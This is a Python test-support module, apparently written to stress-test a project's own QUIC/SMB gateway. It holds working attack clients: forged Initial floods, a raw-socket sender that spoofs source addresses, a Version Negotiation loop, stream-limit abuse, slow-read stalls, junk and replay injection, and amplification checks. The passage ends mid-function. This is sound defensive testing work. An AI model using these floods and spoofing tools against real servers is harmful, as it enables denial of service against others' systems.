"""Hostile clients for `quicfs gateway`, as functions and as processes of their own.

The attacks of tests/integration/test_gateway_hostile.py and bench/gateway_attacks.py; each
can run in a process of its own (a flood must not share a CPU, or a GIL, with the client it
is measured against).

    python -m tests.support.attacker ATTACK --target 127.0.0.1:PORT [options]

Attacks (``--help`` on each for its options):

  two-datagrams    an Initial that opens a connection, then a datagram carrying that
                   connection's id from another address (today: the gateway exits)
  initial-flood    valid Initials, each with a fresh connection id, from 127.0.0.2-250
  vn-loop          a datagram of an unknown version whose source is forged (raw socket) to
                   be the gateway itself, or a second gateway: each answers the other
  streams          one connection, many bidirectional streams, each opening with an SMB2
                   NEGOTIATE (the client ignores the gateway's stream limit)
  no-read          SMB sessions that ask for big reads, then stop reading (SIGSTOP)
  push             an SMB2 NEGOTIATE, then up to N MiB of junk into the stream
  observe-junk     a relay between a real client and the gateway that learns the client's
                   connection ids, and junk with those ids (or copies of the client's
                   datagrams) from another socket at R/s
  amplification    one valid Initial from a socket that never answers; counts the bytes
                   that come back

and the victim:

  honest           the real client (``quicfs.connect`` + ``read_file``): gets of a file,
                   each checked against its SHA-256, one line ``get {json}`` each

A process prints one line ``started {json}`` once the attack is under way (``listening
PORT`` first for observe-junk), and one JSON line of what it did when it ends (stdin closed
or SIGTERM end the long-running ones). Needs root for raw sockets (vn-loop) only.
:class:`AttackProcess` runs one from a test or a benchmark.
"""

from __future__ import annotations

import argparse
import hmac
import json
import os
import random
import resource
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time
from dataclasses import asdict, dataclass, field
from pathlib import Path

import trio
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from qh3._hazmat import AeadAes128Gcm
from qh3.quic import events
from qh3.quic.configuration import QuicConfiguration
from qh3.quic.connection import QuicConnection, QuicConnectionError
from qh3.tls import Group

from quicfs.transport.quic.client import wait_for_any

ROOT = Path(__file__).resolve().parents[2]
ALPN = "smb"
#: The connection ids the gateway issues are this long (qh3's default, quic/server.py).
GATEWAY_CID_LENGTH = 8
QUIC_V1 = 0x00000001
STREAM_LIMIT_ERROR = 0x4

Addr = tuple[str, int]


def _label(addr: Addr) -> str:
    return f"{addr[0]}:{addr[1]}"


def parse_addr(text: str) -> Addr:
    host, _, port = text.rpartition(":")
    return host.strip("[]") or "127.0.0.1", int(port)


# ============================================================================ SMB bytes
def smb2_negotiate(message_id: int = 0) -> bytes:
    """A well-formed SMB2 NEGOTIATE request (MS-SMB2 2.2.3) for dialects 2.0.2 to 3.1.1,
    with the preauth-integrity and encryption contexts 3.1.1 needs, framed as on TCP and
    on QUIC (a 4-byte Direct TCP header, 2.1)."""
    dialects = [0x0202, 0x0210, 0x0300, 0x0302, 0x0311]
    header = struct.pack("<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 0, 0, 0, 1, 0, 0, message_id,
                         0xFEFF, 0, 0, bytes(16))
    fixed_len = 36 + 2 * len(dialects)
    ctx_offset = 64 + fixed_len + (-(64 + fixed_len) % 8)
    preauth = struct.pack("<HHH", 1, 32, 0x0001) + os.urandom(32)
    cipher = struct.pack("<HHH", 2, 0x0002, 0x0001)
    contexts = b""
    for kind, data in ((0x0001, preauth), (0x0002, cipher)):
        contexts += b"\x00" * (-len(contexts) % 8)
        contexts += struct.pack("<HHI", kind, len(data), 0) + data
    body = struct.pack("<HHHHI16sIHH", 36, len(dialects), 0x0001, 0, 0x7F, os.urandom(16),
                       ctx_offset, 2, 0)
    body += b"".join(struct.pack("<H", d) for d in dialects)
    body += b"\x00" * (ctx_offset - 64 - len(body))
    message = header + body + contexts
    return struct.pack(">I", len(message)) + message


# ============================================================================ Initials
class _X25519Only(QuicConnection):
    """A client whose ClientHello offers X25519 alone (no 1216-byte ML-KEM share), so the
    whole hello fits one 1200-byte Initial: one datagram makes the server do a full
    handshake (key exchange, certificate signature, its first flight)."""

    def _create_tls(self, remote_source_cid):  # type: ignore[no-untyped-def]
        bridge = super()._create_tls(remote_source_cid)
        self._tls.tls._supported_groups = [Group.X25519]
        return bridge


def client_configuration(*, max_datagram_size: int = 1280) -> QuicConfiguration:
    return QuicConfiguration(is_client=True, alpn_protocols=[ALPN], verify_mode=ssl.CERT_NONE,
                             max_datagram_size=max_datagram_size)


def client_initial(target: Addr, *, one_datagram: bool = True, size: int = 1200
                   ) -> tuple[bytes, list[bytes]]:
    """A real qh3 client's first flight to ``target``: (its DCID, the datagrams, ``size``
    bytes each). With ``one_datagram``, a single Initial carrying a whole ClientHello;
    without, what qh3 sends by default (two Initials: its ML-KEM key share does not fit
    one)."""
    config = client_configuration(max_datagram_size=size)
    if one_datagram:
        quic: QuicConnection = _X25519Only(configuration=config)
    else:
        quic = QuicConnection(configuration=config)
    now = time.monotonic()
    quic.connect(target, now=now)
    return quic.original_destination_connection_id, [d for d, _ in quic.datagrams_to_send(now)]


_INITIAL_SALT_V1 = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")
_SALTED = hmac.new(_INITIAL_SALT_V1, digestmod="sha256")


def _expand_label(secret: bytes, label: bytes, length: int) -> bytes:
    full = b"tls13 " + label
    info = struct.pack("!HB", length, len(full)) + full + b"\x00\x01"
    return hmac.digest(secret, info, "sha256")[:length]


def initial_keys(dcid: bytes) -> tuple[bytes, bytes, bytes]:
    """The client's Initial key, IV and header-protection key for ``dcid`` (RFC 9001 5.2)."""
    extract = _SALTED.copy()
    extract.update(dcid)
    client = _expand_label(extract.digest(), b"client in", 32)
    return (_expand_label(client, b"quic key", 16), _expand_label(client, b"quic iv", 12),
            _expand_label(client, b"quic hp", 16))


def _hp_mask(hp: bytes, sample: bytes) -> bytes:
    return Cipher(algorithms.AES(hp), modes.ECB()).encryptor().update(sample)


def _varint(buf: bytes, pos: int) -> tuple[int, int]:
    first = buf[pos]
    n = 1 << (first >> 6)
    value = first & 0x3F
    for b in buf[pos + 1:pos + n]:
        value = (value << 8) | b
    return value, pos + n


class InitialForge:
    """Valid client Initials with fresh connection ids, cheaply: one real ClientHello
    (qh3's, ``client_initial``) is decrypted once, then each Initial is that plaintext
    sealed again under the keys of a new random DCID (RFC 9001 5.2, 5.4). Each decrypts at
    the server and opens a new connection there; about 30 us each here (a qh3 client
    connection costs about 1 ms)."""

    def __init__(self, template: bytes, dcid: bytes) -> None:
        first = template[0]
        pos = 6 + template[5]  # first byte, version, DCID length, DCID
        scid_len = template[pos]
        pos += 1 + scid_len
        token_len, pos = _varint(template, pos)
        pos += token_len
        length, pn_offset = _varint(template, pos)
        key, iv, hp = initial_keys(dcid)
        mask = _hp_mask(hp, template[pn_offset + 4:pn_offset + 20])
        first ^= mask[0] & 0x0F
        pn_len = (first & 0x03) + 1
        pn = int.from_bytes(bytes(a ^ b for a, b in zip(
            template[pn_offset:pn_offset + pn_len], mask[1:1 + pn_len], strict=True)), "big")
        header = bytes([first]) + template[1:pn_offset] + pn.to_bytes(pn_len, "big")
        end = pn_offset + length
        self.payload = AeadAes128Gcm(key, iv).decrypt(pn, template[pn_offset + pn_len:end],
                                                      header)
        self.first = first
        self.version = template[1:5]
        self.pn = pn
        self.pn_len = pn_len
        self.length = length
        self.size = end
        self.scid_len = scid_len

    def forge(self, dcid: bytes, scid: bytes | None = None) -> bytes:
        scid = scid if scid is not None else os.urandom(self.scid_len)
        key, iv, hp = initial_keys(dcid)
        header = (bytes([self.first]) + self.version + bytes([len(dcid)]) + dcid
                  + bytes([len(scid)]) + scid + b"\x00"
                  + struct.pack("!H", 0x4000 | self.length)
                  + self.pn.to_bytes(self.pn_len, "big"))
        sealed = AeadAes128Gcm(key, iv).encrypt(self.pn, self.payload, header)
        mask = _hp_mask(hp, sealed[4 - self.pn_len:20 - self.pn_len])
        pn_offset = len(header) - self.pn_len
        out = bytearray(header + sealed)
        out[0] ^= mask[0] & 0x0F
        for i in range(self.pn_len):
            out[pn_offset + i] ^= mask[1 + i]
        return bytes(out)


def long_header(version: int, dcid: bytes, scid: bytes, size: int) -> bytes:
    """A ``size``-byte datagram with the header of an Initial of ``version`` (no token, a
    length that covers the rest: it parses) and random bytes where the packet number and
    the sealed payload go: nothing a key opens."""
    head = bytes([0xC3]) + struct.pack("!I", version) + bytes([len(dcid)]) + dcid \
        + bytes([len(scid)]) + scid + b"\x00"
    rest = max(20, size - len(head) - 2)
    return head + struct.pack("!H", 0x4000 | rest) + os.urandom(rest)


def version_negotiation(dcid: bytes, scid: bytes, versions: tuple[int, ...] = (QUIC_V1,)
                        ) -> bytes:
    """A Version Negotiation packet (version 0, RFC 9000 17.2.1)."""
    return bytes([0x80 | random.randrange(0x80)]) + b"\x00\x00\x00\x00" + bytes([len(dcid)]) \
        + dcid + bytes([len(scid)]) + scid + b"".join(struct.pack("!I", v) for v in versions)


def short_header_junk(dcid: bytes, size: int = 60) -> bytes:
    """A 1-RTT packet with ``dcid`` and nothing a key opens (RFC 9000 17.3)."""
    return bytes([0x40 | random.randrange(0x40)]) + dcid + os.urandom(max(0, size - 1
                                                                          - len(dcid)))


def server_scid(datagram: bytes) -> bytes | None:
    """The source connection id of a server's long-header packet."""
    if len(datagram) < 7 or not datagram[0] & 0x80:
        return None
    pos = 6 + datagram[5]
    n = datagram[pos]
    return datagram[pos + 1:pos + 1 + n]


# ============================================================================ raw sockets
def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


class RawSender:
    """UDP datagrams from any IPv4 source we like (IP_HDRINCL; root). On loopback the
    kernel delivers them like any other."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, src: Addr, dst: Addr, payload: bytes) -> None:
        saddr, daddr = socket.inet_aton(src[0]), socket.inet_aton(dst[0])
        udp_len = 8 + len(payload)
        pseudo = saddr + daddr + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_len)
        udp = struct.pack("!HHHH", src[1], dst[1], udp_len, 0) + payload
        csum = _checksum(pseudo + udp) or 0xFFFF
        udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.randrange(65536), 0,
                         64, socket.IPPROTO_UDP, 0, saddr, daddr)
        ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
        self.sock.sendto(ip + udp, (dst[0], 0))

    def close(self) -> None:
        self.sock.close()


class LoopbackSniffer:
    """Counts QUIC Version Negotiation datagrams (version 0) on lo to or from ``ports``
    (AF_PACKET; root). Python cannot keep up with a busy loop: a count of many means
    many more."""

    def __init__(self, ports: set[int]) -> None:
        self.ports = ports
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
        self.sock.bind(("lo", 0))
        self.sock.setblocking(False)
        self.count = 0

    def drain(self) -> None:
        """Forget what came before now."""
        while True:
            try:
                self.sock.recv(65536)
            except BlockingIOError:
                return

    def run_for(self, seconds: float) -> int:
        """Count for ``seconds``; return the count."""
        import select

        deadline = time.monotonic() + seconds
        while (left := deadline - time.monotonic()) > 0:
            select.select([self.sock], [], [], left)
            while True:
                try:
                    pkt, (_, _, pkttype, *_) = self.sock.recvfrom(65536)
                except BlockingIOError:
                    break
                if pkttype == socket.PACKET_OUTGOING:
                    continue  # each datagram on lo is seen twice: out and in
                ihl = (pkt[0] & 0x0F) * 4
                if len(pkt) < ihl + 13 or pkt[9] != socket.IPPROTO_UDP:
                    continue
                sport, dport = struct.unpack("!HH", pkt[ihl:ihl + 4])
                quic = pkt[ihl + 8:]
                if (sport in self.ports or dport in self.ports) and quic[0] & 0x80 \
                        and quic[1:5] == b"\x00\x00\x00\x00":
                    self.count += 1
        return self.count

    def close(self) -> None:
        self.sock.close()


# ============================================================================ a qh3 client
class _IgnoresStreamLimits(QuicConnection):
    """A client that opens as many streams as it likes, whatever the server allows
    (initial_max_streams_bidi, RFC 9000 4.6): the server must close the connection with
    STREAM_LIMIT_ERROR."""

    def _call_core(self, operation, *args):  # type: ignore[no-untyped-def]
        if getattr(operation, "__name__", "") == "apply_peer_transport_parameters":
            args = list(args)
            args[4] = max(args[4], 1 << 20)  # initial_max_streams_bidi
            args = tuple(args)
        return super()._call_core(operation, *args)


class Qh3Client:
    """A bare qh3 client on trio, for attacks: one socket, the engine, its timers; the
    streams are the caller's (``send``), nothing is read but counted."""

    def __init__(self, target: Addr, *, ignore_stream_limits: bool = False,
                 bind: Addr = ("127.0.0.1", 0)) -> None:
        cls = _IgnoresStreamLimits if ignore_stream_limits else QuicConnection
        self.target = target
        self.quic = cls(configuration=client_configuration())
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.setblocking(False)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        self.sock.bind(bind)
        self.handshake_done = trio.Event()
        self.terminated = trio.Event()
        self.close_error_code: int | None = None
        self.close_reason = ""
        self.received: dict[int, int] = {}
        self.resets: dict[int, int] = {}
        self.first_reply: list[bytes] = []
        self.bytes_sent = 0
        self.bytes_received = 0
        self._wake = False
        self._scope: trio.CancelScope | None = None
        self._said_hello = False

    @property
    def local(self) -> Addr:
        return self.sock.getsockname()  # type: ignore[no-any-return]

    def wake(self) -> None:
        self._wake = True
        if self._scope is not None:
            self._scope.cancel()

    def send(self, stream_id: int, data: bytes, end: bool = False) -> bool:
        """Queue ``data`` on the stream; False if the connection no longer takes it (the
        peer closed it)."""
        try:
            self.quic.send_stream_data(stream_id, data, end_stream=end)
        except (QuicConnectionError, ValueError, RuntimeError):
            return False
        self.wake()
        return True

    def new_stream(self) -> int:
        return self.quic.get_next_available_stream_id()

    def unsent(self, stream_id: int) -> int:
        """Bytes queued on the stream not yet sent (0 once the connection is gone)."""
        try:
            return self.quic.get_send_buffer_size(stream_id)
        except (QuicConnectionError, ValueError, RuntimeError):
            return 0

    def close(self, code: int = 0, reason: str = "") -> None:
        self.quic.close(error_code=code, reason_phrase=reason)
        self.wake()

    async def connect(self, nursery: trio.Nursery, within: float = 5.0) -> None:
        await nursery.start(self.run)
        with trio.move_on_after(within):
            await wait_for_any(self.handshake_done, self.terminated)
        if not self.handshake_done.is_set():
            raise ConnectionError(f"no handshake with {self.target}: "
                                  f"{self.close_reason or 'no answer'}")

    def hello(self) -> None:
        """Send the first flight (the ClientHello) and nothing more: the server has a
        handshake under way that hears nothing from this client until :meth:`run`, if
        ever (what it answers waits in the socket)."""
        self.quic.connect(self.target, now=trio.current_time())
        self._said_hello = True
        self._flush()

    async def run(self, *, task_status: trio.TaskStatus[None] = trio.TASK_STATUS_IGNORED
                  ) -> None:
        if not self._said_hello:
            self.quic.connect(self.target, now=trio.current_time())
        task_status.started()
        try:
            while True:
                self._flush()
                if self.terminated.is_set():
                    return
                timer = self.quic.get_timer()
                if not self._wake:
                    with trio.CancelScope(deadline=timer if timer is not None
                                          else float("inf")) as self._scope:
                        await trio.lowlevel.wait_readable(self.sock)
                    self._scope = None
                self._wake = False
                now = trio.current_time()
                while True:
                    try:
                        data, addr = self.sock.recvfrom(65536)
                    except (BlockingIOError, InterruptedError):
                        break
                    except OSError:
                        break
                    self.bytes_received += len(data)
                    if not self.first_reply:
                        self.first_reply.append(data)
                    try:
                        self.quic.receive_datagram(data, addr, now)
                    except Exception:
                        pass
                timer = self.quic.get_timer()
                try:
                    if timer is not None and now >= timer:
                        self.quic.handle_timer(now)
                except QuicConnectionError as exc:  # the engine gave up: so do we
                    self.close_reason = self.close_reason or str(exc)
                    return
                self._events()
        finally:
            self.sock.close()
            self.terminated.set()

    def _flush(self) -> None:
        try:
            out = self.quic.datagrams_to_send(trio.current_time())
        except QuicConnectionError:
            return
        for data, addr in out:
            try:
                self.sock.sendto(data, addr)
                self.bytes_sent += len(data)
            except (BlockingIOError, InterruptedError):
                pass  # loss recovery resends

    def _events(self) -> None:
        while (event := self.quic.next_event()) is not None:
            if isinstance(event, events.HandshakeCompleted):
                self.handshake_done.set()
            elif isinstance(event, events.StreamDataReceived):
                self.received[event.stream_id] = (self.received.get(event.stream_id, 0)
                                                  + len(event.data))
            elif isinstance(event, events.StreamReset):
                self.resets[event.stream_id] = event.error_code
            elif isinstance(event, events.ConnectionTerminated):
                self.close_error_code = event.error_code
                self.close_reason = event.reason_phrase or ""
                self.terminated.set()


# ============================================================================ attacks
@dataclass
class Result:
    attack: str
    ok: bool = True
    note: str = ""
    figures: dict[str, object] = field(default_factory=dict)


def _udp(bind: Addr = ("127.0.0.1", 0), rcvbuf: int | None = None) -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if rcvbuf is not None:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.bind(bind)
    return s


def _recv_all(sock: socket.socket, within: float) -> list[bytes]:
    """Everything ``sock`` receives within ``within`` seconds."""
    import select

    got = []
    deadline = time.monotonic() + within
    while (left := deadline - time.monotonic()) > 0:
        if not select.select([sock], [], [], left)[0]:
            break
        try:
            got.append(sock.recv(65536))
        except OSError:
            break
    return got


def two_datagrams(target: Addr, *, variant: str = "server-cid", wait: float = 1.0) -> Result:
    """Attack 1. Socket A sends a real client's Initial; socket B sends a datagram carrying
    that connection's id:

    - ``server-cid``: a 1-RTT junk packet to the id the server chose (from its reply);
    - ``client-dcid``: the same Initial again, replayed from B (the client's original id);
    - ``client-dcid-junk``: a 1200-byte long-header junk packet with that id.
    """
    a, b = _udp(), _udp()
    try:
        dcid, flight = client_initial(target)
        for d in flight:
            a.sendto(d, target)
        replies = _recv_all(a, wait)
        cid = next((c for c in map(server_scid, replies) if c), None)
        if variant == "server-cid":
            if cid is None:
                return Result("two-datagrams", False, "no reply to the Initial",
                              {"replies": len(replies)})
            b.sendto(short_header_junk(cid), target)
        elif variant == "client-dcid":
            for d in flight:
                b.sendto(d, target)
        elif variant == "client-dcid-junk":
            b.sendto(long_header(QUIC_V1, dcid, os.urandom(8), 1200), target)
        else:
            raise ValueError(f"unknown variant {variant}")
        return Result("two-datagrams", True, variant, {
            "from": _label(a.getsockname()), "then_from": _label(b.getsockname()),
            "client_dcid": dcid.hex(), "server_cid": cid.hex() if cid else None,
            "replies": len(replies)})
    finally:
        a.close()
        b.close()


def _raise_nofile(n: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < n:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(n, hard), hard))


def flood_sockets(first: int = 2, last: int = 250, ports: int = 4) -> list[socket.socket]:
    """Sockets on 127.0.0.FIRST..LAST, ``ports`` each: the flood's many sources (the real
    client stays on 127.0.0.1). Their receive buffers are small: nobody reads them."""
    _raise_nofile((last - first + 1) * ports + 256)
    socks = []
    for _ in range(ports):
        for host in range(first, last + 1):
            s = _udp((f"127.0.0.{host}", 0), rcvbuf=4096)
            s.setblocking(False)
            socks.append(s)
    return socks


def initial_flood(target: Addr, *, rate: float = 10_000, seconds: float = 10.0,
                  sources: tuple[int, int] = (2, 250), ports: int = 4, valid: bool = True,
                  hello: str = "mixed", on_start=None) -> Result:  # type: ignore[no-untyped-def]
    """Attack 2: ``rate`` 1200-byte Initials a second for ``seconds``, each with a fresh
    DCID, from ``ports`` sockets on each of 127.0.0.<sources>, round robin. ``valid``:
    each sealed under its own DCID's keys (it decrypts); otherwise the template
    re-addressed without sealing again (looks the same, decrypts to nothing). ``hello``:
    ``full``, a whole ClientHello in each (the server does the handshake: key exchange,
    signature, its first flight); ``partial``, the first half of qh3's default two-datagram
    hello (the server keeps a connection waiting for the rest); ``mixed``, the two in
    turn."""
    socks = flood_sockets(sources[0], sources[1], ports)
    kinds = {"full": [True], "partial": [False], "mixed": [True, False]}[hello]
    forges, templates = [], []
    for one in kinds:
        dcid, flight = client_initial(target, one_datagram=one)
        forges.append(InitialForge(flight[0], dcid))
        templates.append(flight[0])
    # All of them made beforehand (about 40 us each here): the flood itself then costs
    # the attacker a sendto a datagram, not a core.
    made = time.monotonic()
    count = int(rate * seconds)
    if valid:
        datagrams = [forges[i % len(forges)].forge(os.urandom(8)) for i in range(count)]
    else:
        datagrams = [t[:5] + b"\x08" + os.urandom(8) + t[6 + t[5]:]
                     for t in (templates[i % len(templates)] for i in range(count))]
    made = time.monotonic() - made
    sent = errors = 0
    if on_start is not None:
        on_start({"sockets": len(socks), "prepared_s": round(made, 2)})
    start = time.monotonic()
    try:
        while sent < count:
            now = time.monotonic()
            due = min(count, int((now - start) * rate)) - sent
            if due <= 0:
                time.sleep(0.001)
                continue
            for data in datagrams[sent:sent + min(due, 500)]:
                try:
                    socks[sent % len(socks)].sendto(data, target)
                except OSError:
                    errors += 1
                sent += 1
        elapsed = time.monotonic() - start
    finally:
        for s in socks:
            s.close()
    return Result("initial-flood", True, ("valid" if valid else "undecryptable") + f", {hello}", {
        "sent": sent, "seconds": round(elapsed, 3), "rate": round(sent / elapsed),
        "sources": len(socks), "send_errors": errors,
        "datagram_bytes": sorted({len(d) for d in datagrams})})


def vn_loop(target: Addr, *, other: Addr | None = None, count: int = 3,
            sniff: float = 0.0) -> Result:
    """Attack 3: datagrams to ``target`` forged to come from ``other`` (default: the
    target itself): a 1200-byte Initial of an unknown version, and a Version Negotiation
    packet. A server that answers either, and answers a VN, loops with its peer (or with
    itself) for ever. With ``sniff``, then counts VN datagrams on lo for that long."""
    src = other or target
    raw = RawSender()
    sniffer = LoopbackSniffer({target[1], src[1]}) if sniff else None
    try:
        for _ in range(count):
            raw.send(src, target, long_header(0x1A2A3A4A, os.urandom(8), os.urandom(8), 1200))
            raw.send(src, target, version_negotiation(os.urandom(8), os.urandom(8)))
            raw.send(src, target, long_header(0, os.urandom(8), os.urandom(8), 1200))
        seen = 0
        if sniffer is not None:
            time.sleep(0.5)
            sniffer.drain()
            seen = sniffer.run_for(sniff)
    finally:
        raw.close()
        if sniffer is not None:
            sniffer.close()
    return Result("vn-loop", True, "self" if other is None else "pair", {
        "forged_source": _label(src), "datagrams": 3 * count,
        "vn_seen": seen, "sniff_seconds": sniff})


async def many_streams(target: Addr, *, streams: int = 100, hold: float = 2.0,
                       on_start=None) -> Result:  # type: ignore[no-untyped-def]
    """Attack 4: one connection, ``streams`` bidirectional streams, each opening with an
    SMB2 NEGOTIATE; held open ``hold`` seconds (the client ignores the stream limit the
    gateway gave it)."""
    client = Qh3Client(target, ignore_stream_limits=True)
    async with trio.open_nursery() as nursery:
        await client.connect(nursery)
        opened = 0
        for _ in range(streams):
            if client.terminated.is_set():
                break
            sid = client.new_stream()
            if not client.send(sid, smb2_negotiate()):
                break
            opened += 1
            await trio.sleep(0.005)
        if on_start is not None:
            on_start({"opened": opened})
        with trio.move_on_after(hold):
            await client.terminated.wait()
        answered = sum(1 for n in client.received.values() if n)
        closed = client.terminated.is_set()
        if not closed:
            client.close()
            with trio.move_on_after(1):
                await client.terminated.wait()
        nursery.cancel_scope.cancel()
    return Result("streams", True, "", {
        "opened": opened, "answered": answered, "closed_by_gateway": closed,
        "close_error_code": client.close_error_code if closed else None,
        "close_reason": client.close_reason if closed else None})


async def push(target: Addr, *, mib: int = 400, seconds: float = 8.0, stall: float = 2.0,
               on_start=None) -> Result:  # type: ignore[no-untyped-def]
    """Attack 6's client: an SMB2 NEGOTIATE, then up to ``mib`` MiB of junk into the
    stream, for at most ``seconds``; gives up once nothing moved for ``stall`` seconds.
    ``sent``: bytes that left for the gateway (flow control lets no more go than it
    allows)."""
    client = Qh3Client(target)
    total = mib << 20
    chunk = os.urandom(256 * 1024)
    queued = 0
    async with trio.open_nursery() as nursery:
        await client.connect(nursery)
        sid = client.new_stream()
        client.send(sid, smb2_negotiate())
        if on_start is not None:
            on_start({})
        start = last_move = trio.current_time()
        last_sent = 0
        while queued < total and not client.terminated.is_set():
            now = trio.current_time()
            if now - start > seconds:
                break
            if client.unsent(sid) < 1 << 20:
                piece = chunk[:min(len(chunk), total - queued)]
                if not client.send(sid, piece):
                    break
                queued += len(piece)
            else:
                await trio.sleep(0.01)
            sent = queued - client.unsent(sid)
            if sent != last_sent:
                last_sent, last_move = sent, now
            elif now - last_move > stall:
                break
            await trio.lowlevel.checkpoint()
        sent = queued - client.unsent(sid)
        elapsed = trio.current_time() - start
        closed = client.terminated.is_set()
        if not closed:
            client.close()
            with trio.move_on_after(1):
                await client.terminated.wait()
        nursery.cancel_scope.cancel()
    return Result("push", True, "", {
        "sent_mib": round(sent / 2**20, 1), "seconds": round(elapsed, 2),
        "closed_by_gateway": closed,
        "close_error_code": client.close_error_code if closed else None,
        "close_reason": client.close_reason if closed else None})


async def no_read(url: str, opts: str, path: str, *, sessions: int = 4, depth: int = 32,
                  chunk: int = 1 << 20, on_start=None) -> Result:  # type: ignore[no-untyped-def]
    """Attack 5: ``sessions`` SMB sessions over QUIC each ask for ``depth`` reads of
    ``chunk`` bytes of ``path`` at once; once every one has its first data, the whole
    process stops (SIGSTOP): nothing reads its sockets any more. Whoever started it ends
    it (SIGKILL); ``on_start`` is told just before it stops."""
    import quicfs

    got_first = trio.Event()
    ready = 0

    async def one(task_status: trio.TaskStatus[None]) -> None:
        nonlocal ready
        async with quicfs.connect(url, opts) as share:
            first = True

            async def sink(data: bytes) -> None:
                nonlocal first, ready
                if first:
                    first = False
                    ready += 1
                    if ready == sessions:
                        got_first.set()
                await trio.sleep_forever()

            async with share.opened(path) as handle:
                task_status.started()
                await handle.read_stream(sink, chunk=chunk, depth=depth,
                                         size_hint=handle.size)

    async with trio.open_nursery() as nursery:
        for _ in range(sessions):
            await nursery.start(one)
        with trio.fail_after(30):
            await got_first.wait()
        await trio.sleep(0.2)  # the requests are out
        if on_start is not None:
            on_start({"sessions": sessions, "requested_mib": sessions * depth * chunk >> 20})
        os.kill(os.getpid(), signal.SIGSTOP)
        nursery.cancel_scope.cancel()
    return Result("no-read", True, "resumed")


class ObserverRelay:
    """Attack 7: a relay between a real client and the gateway that reads the connection
    id of every client packet (an on-path observer), and a second socket that sends, to
    the gateway, ``rate`` times a second, either junk with a short header and the id last
    seen (``mode="junk"``), or a copy of the client's smallest recent datagram (``mode=
    "replay"``: authentic, but from an address that is not the client's, and never
    answers). ``answers``/``answer_bytes`` count what the gateway sent that socket: for
    junk it should be nothing; for replays at most three times what it sent (RFC 9000
    8.1). Nothing is injected while ``active`` is False."""

    def __init__(self, upstream: Addr, *, rate: float = 100.0, mode: str = "junk",
                 cid_length: int = GATEWAY_CID_LENGTH, active: bool = True) -> None:
        if mode not in ("junk", "replay"):
            raise ValueError(f"unknown mode {mode}")
        self.active = active
        self.upstream = upstream
        self.rate = rate
        self.mode = mode
        self.cid_length = cid_length
        self.port = 0
        self.cids: set[bytes] = set()
        self.last_cid: bytes | None = None
        self.small: bytes | None = None  # the client's last short-header datagram < 100 B
        self.relayed_up = 0
        self.relayed_down = 0
        self.sent = 0
        self.sent_bytes = 0
        self.answers = 0
        self.answer_bytes = 0
        self.source = ""

    async def run(self, *, task_status: trio.TaskStatus[int] = trio.TASK_STATUS_IGNORED
                  ) -> None:
        listen = trio.socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        await listen.bind(("127.0.0.1", 0))
        up = trio.socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        await up.bind(("127.0.0.1", 0))
        other = trio.socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        await other.bind(("127.0.0.1", 0))
        self.source = _label(other.getsockname())
        self.port = listen.getsockname()[1]
        client: list[Addr] = []
        with listen, up, other:
            async with trio.open_nursery() as nursery:

                async def downstream() -> None:
                    while True:
                        data, _ = await up.recvfrom(65536)
                        if client:
                            self.relayed_down += 1
                            await listen.sendto(data, client[0])

                async def answers() -> None:
                    while True:
                        data, _ = await other.recvfrom(65536)
                        self.answers += 1
                        self.answer_bytes += len(data)

                async def injector() -> None:
                    while True:
                        await trio.sleep(1 / self.rate)
                        if not self.active:
                            continue
                        if self.mode == "junk" and self.last_cid is not None:
                            data = short_header_junk(self.last_cid, random.randrange(40, 1200))
                        elif self.mode == "replay" and self.small is not None:
                            data = self.small
                        else:
                            continue
                        await other.sendto(data, self.upstream)
                        self.sent += 1
                        self.sent_bytes += len(data)

                nursery.start_soon(downstream)
                nursery.start_soon(answers)
                nursery.start_soon(injector)
                task_status.started(self.port)
                while True:
                    data, addr = await listen.recvfrom(65536)
                    if not client or client[0] != addr:
                        client[:] = [addr]
                    if data and not data[0] & 0x80 and len(data) > self.cid_length:
                        cid = data[1:1 + self.cid_length]
                        self.cids.add(cid)
                        self.last_cid = cid
                        if len(data) < 100:
                            self.small = data
                    self.relayed_up += 1
                    await up.sendto(data, self.upstream)

    def figures(self) -> dict[str, object]:
        return {"mode": self.mode, "relayed_up": self.relayed_up,
                "relayed_down": self.relayed_down, "cids_seen": len(self.cids),
                "sent": self.sent, "sent_bytes": self.sent_bytes, "source": self.source,
                "answers": self.answers, "answer_bytes": self.answer_bytes}

    def within_limit(self) -> bool:
        if self.mode == "junk":
            return self.answers == 0
        return self.answer_bytes <= 3 * self.sent_bytes


def amplification(target: Addr, *, seconds: float = 10.0, one_datagram: bool = True
                  ) -> Result:
    """Attack 9: a real client's first flight from a socket that never answers; counts
    what comes back for ``seconds`` (RFC 9000 8.1: at most three times what was sent)."""
    s = _udp()
    try:
        _, flight = client_initial(target, one_datagram=one_datagram)
        for d in flight:
            s.sendto(d, target)
        sent = sum(len(d) for d in flight)
        got = _recv_all(s, seconds)
    finally:
        s.close()
    received = sum(len(d) for d in got)
    return Result("amplification", received <= 3 * sent,
                  "one-datagram hello" if one_datagram else "two-datagram hello", {
                      "sent_bytes": sent, "received_bytes": received,
                      "received_datagrams": len(got),
